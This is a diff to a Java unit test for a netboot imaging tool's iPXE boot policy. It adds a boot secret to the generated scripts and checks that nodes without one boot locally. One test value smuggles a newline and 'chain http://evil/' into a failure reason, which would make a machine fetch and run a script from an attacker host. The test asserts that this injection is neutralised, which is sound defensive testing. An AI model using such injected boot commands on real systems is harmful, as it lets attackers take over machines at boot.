@@ -17,6 +17,7 @@ import org.junit.jupiter.api.io.TempDir;
 class BootPolicyTest {
   private static final MacAddress A = MacAddress.parse("52:54:00:00:00:0a");
   private static final String BASE = "http://10.77.0.1:8080";
+  private static final Optional<String> SECRET = Optional.of("00112233445566778899aabbccddeeff");
 
   private static final BootenvStatus READY = new BootenvStatus.Ready();
 
@@ -27,18 +28,18 @@ class BootPolicyTest {
     try (Database db = Database.open(dir)) {
       NodeStore nodes = new NodeStore(db, Clock.systemUTC());
       BootPolicy p = new BootPolicy(nodes, "console=ttyS0");
-      assertTrue(p.ipxeScript(A, BASE, READY).contains("sanboot"), "unknown MAC boots local");
+      assertTrue(p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"), "unknown MAC boots local");
       nodes.recordSeen(A, Optional.empty(), Optional.empty());
-      assertTrue(p.ipxeScript(A, BASE, READY).contains("sanboot"), "discovered MAC boots local");
+      assertTrue(p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"), "discovered MAC boots local");
       nodes.enroll(A, "node01", Optional.empty());
-      assertTrue(p.ipxeScript(A, BASE, READY).contains("sanboot"), "enrolled, not marked, boots local");
+      assertTrue(p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"), "enrolled, not marked, boots local");
       nodes.update(A, NodeStore.Change.action(BootAction.REIMAGE));
-      String s = p.ipxeScript(A, BASE, READY);
+      String s = p.ipxeScript(A, BASE, READY, SECRET);
       assertFalse(s.contains("sanboot"), s);
       assertTrue(s.contains("kernel " + BASE + "/bootenv/vmlinuz initrd=initramfs.zst clonecast.server=" + BASE
-          + " clonecast.mac=52:54:00:00:00:0a console=ttyS0"), s);
+          + " clonecast.mac=52:54:00:00:00:0a clonecast.secret=" + SECRET.get() + " console=ttyS0"), s);
       assertTrue(s.contains("initrd --name initramfs.zst " + BASE + "/bootenv/initramfs.zst"), s);
-      String wait = p.ipxeScript(A, BASE, new BootenvStatus.Building());
+      String wait = p.ipxeScript(A, BASE, new BootenvStatus.Building(), SECRET);
       assertFalse(wait.contains("sanboot") || wait.contains("exit"), "a marked node is never sent to its (maybe blank) disk: " + wait);
       assertEquals("#!ipxe\n"
           + "echo clonecast: node01 is marked to re-image, but the server is building the netboot environment (once, a few minutes)\n"
@@ -51,13 +52,15 @@ class BootPolicyTest {
           + "sleep 10\n"
           + "goto retry\n", wait);
       String failed = p.ipxeScript(A, BASE, new BootenvStatus.Failed("building the netboot environment failed: apt-get download"
-          + " failed\nchain http://evil/; run 'clonecast bootenv build --state-dir /var/lib/clonecast' as root on the server"));
+          + " failed\nchain http://evil/; run 'clonecast bootenv build --state-dir /var/lib/clonecast' as root on the server"), SECRET);
       assertTrue(failed.contains("echo clonecast: node01 is marked to re-image, but building the netboot environment failed:"
           + " apt-get download failed chain http://evil/; run 'clonecast bootenv build"), failed);
       assertFalse(failed.contains("\nchain http://evil"), "a reason cannot add script lines: " + failed);
       // A golden node marked for capture netboots the same environment; its agent learns the rest.
       nodes.update(A, NodeStore.Change.action(BootAction.CAPTURE));
-      String c = p.ipxeScript(A, BASE, READY);
+      String none = p.ipxeScript(A, BASE, READY, Optional.empty());
+      assertTrue(none.contains("sanboot") && !none.contains("clonecast.secret"), "never a netboot script without a secret: " + none);
+      String c = p.ipxeScript(A, BASE, READY, SECRET);
       assertTrue(c.contains("to capture this node") && c.contains("clonecast.mac=52:54:00:00:00:0a"), c);
     }
   }
